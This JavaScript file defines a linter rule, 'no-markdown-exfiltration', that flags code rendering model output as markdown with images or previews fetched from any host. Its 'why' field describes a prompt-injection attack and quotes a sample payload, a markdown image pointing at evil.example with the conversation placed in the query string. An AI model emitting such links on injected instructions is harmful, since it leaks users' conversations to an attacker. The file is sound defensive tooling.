/** Model output shown by something that fetches images or link previews from any host by itself. */
import { flowRule } from "../define.js";
import { useInstead } from "../wording.js";

export const noMarkdownExfiltration = flowRule({
  name: "no-markdown-exfiltration",
  description: "Disallow model output where images and previews from any host are fetched",
  why: "Text that the model has read tells it to answer with `![](https://evil.example/?q=<the conversation>)`: whoever shows the answer fetches the image, and the conversation is gone without a click.",
  instead:
    "Show no images and previews, or only those of hosts you name: a component for `img` and `a` that checks the host, a content security policy, previews off.",
  notAFinding: [
    "Renderers that are given components, allowed or disallowed elements, or a transformation of addresses",
    "Text shown as text",
    "What people write themselves: only model output, tool arguments and retrieved text are followed",
  ],
  example: {
    javascript: {
      bad: "return <ReactMarkdown>{answer.output_text}</ReactMarkdown>;",
      good: 'return <ReactMarkdown disallowedElements={["img"]}>{answer.output_text}</ReactMarkdown>;',
    },
    python: { bad: "st.markdown(answer.output_text)", good: "st.text(answer.output_text)" },
  },
  preset: "strict",
  strictBecause: "It needs data worth stealing in the conversation and a policy for links.",
  cwe: [201],
  owaspLlm2025: ["LLM05", "LLM02"],
  owaspLlm2026: ["LLM10", "LLM02"],
  asi: ["ASI01"],
  mcp: ["MCP10"],
  practices: ["leakage", "ai-detection"],
  securitySeverity: 5.3,
  kinds: ["render"],
  sources: ["llm", "tool", "retrieved"],
  reaches: "text in which images and previews are fetched",
  advice: (hit) => useInstead(hit, "Leave images and previews out, or check their host, instead."),
});
